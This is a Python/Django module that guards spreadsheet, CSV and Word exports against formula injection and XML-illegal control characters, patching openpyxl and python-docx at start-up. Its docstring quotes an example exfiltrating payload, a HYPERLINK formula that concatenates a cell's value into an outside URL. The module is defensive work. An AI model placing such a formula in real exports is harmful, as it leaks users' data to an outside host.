"""Text that is safe in a spreadsheet, a CSV, a Word document and the database
(issue 16, part 2).

- **Formula injection** (OWASP "CSV injection"): a cell whose text starts with ``=``,
  ``+``, ``-``, ``@``, a tab or a carriage return is read as a formula by Excel/WPS
  (``=HYPERLINK("http://…"&C2,"详情")`` sends another unit's data away). Such text is
  written with a leading ``'``, so it shows as typed and is never evaluated. Numbers
  stay numbers (a negative number is a number cell, not text).
- **Control characters** (``\\x00``–``\\x08``, ``\\x0b``, ``\\x0c``, ``\\x0e``–``\\x1f``,
  ``\\x7f``) are not allowed in XML 1.0: one of them in a case title made every .xlsx
  export and every .docx that quotes it fail (500). They are removed from every export
  and document, vertical tab and form feed becoming a line break; lone surrogates
  (``\\ud800``) become U+FFFD. Input where they have no meaning refuses them
  (:func:`refuse_control_chars`, :class:`NoControlCharsValidator`).
"""

from __future__ import annotations

import re
from typing import Any

from django.core.exceptions import ValidationError
from django.utils.deconstruct import deconstructible
from django.utils.translation import gettext_lazy as _

# C0 controls except tab, line feed and carriage return, plus DEL.
CONTROL_CHARS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
_SURROGATES = re.compile("[\ud800-\udfff]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def clean_text(value: str) -> str:
    """``value`` without XML-illegal control characters or lone surrogates."""
    if CONTROL_CHARS.search(value):
        value = value.replace("\x0b", "\n").replace("\x0c", "\n")
        value = CONTROL_CHARS.sub("", value)
    if _SURROGATES.search(value):
        value = _SURROGATES.sub("\ufffd", value)
    return value


def safe_cell(value: Any) -> Any:
    """A spreadsheet/CSV cell value: text cleaned and never read as a formula."""
    if not isinstance(value, str):
        return value
    value = clean_text(value)
    if value.startswith(FORMULA_START):
        return "'" + value
    return value


def has_control_chars(value: str) -> bool:
    return bool(CONTROL_CHARS.search(value) or _SURROGATES.search(value))


CONTROL_MESSAGE = _("不能包含控制字符。")


@deconstructible
class NoControlCharsValidator:
    """Refuses control characters (and lone surrogates) in a text field."""

    message = CONTROL_MESSAGE
    code = "control_characters"

    def __call__(self, value: Any) -> None:
        if isinstance(value, str) and has_control_chars(value):
            raise ValidationError(self.message, code=self.code)

    def __eq__(self, other: object) -> bool:
        return isinstance(other, NoControlCharsValidator)

    def __hash__(self) -> int:
        return hash(self.code)


no_control_chars = NoControlCharsValidator()


_installed = False


def install_export_guards() -> None:
    """Installed once at start-up (CoreConfig.ready): every string openpyxl writes into a
    cell goes through :func:`safe_cell`, every text python-docx writes into a run through
    :func:`clean_text` — one guard for every export and document, whatever builds it."""
    install_xlsx_guard()
    install_docx_guard()


def install_xlsx_guard() -> None:
    from openpyxl.cell.cell import Cell

    cell: Any = Cell
    if getattr(cell._bind_value, "_envgrid_guard", False):
        return
    original = cell._bind_value

    def _bind_value(self: Any, value: Any) -> None:
        if type(value) is str:
            value = safe_cell(value)
        original(self, value)

    _bind_value._envgrid_guard = True  # type: ignore[attr-defined]
    cell._bind_value = _bind_value


def install_docx_guard() -> None:
    """Every text python-docx writes into a run is cleaned first: one guard for all the
    documents (minutes, notices, transfer letters, plans), whatever builds them."""
    global _installed
    if _installed:
        return
    try:
        from docx.oxml.text.run import CT_R
    except ImportError:  # pragma: no cover - python-docx is a dependency
        return
    original = CT_R.add_t

    def add_t(self: Any, text: str) -> Any:
        return original(self, clean_text(text))

    CT_R.add_t = add_t  # type: ignore[method-assign]
    _installed = True
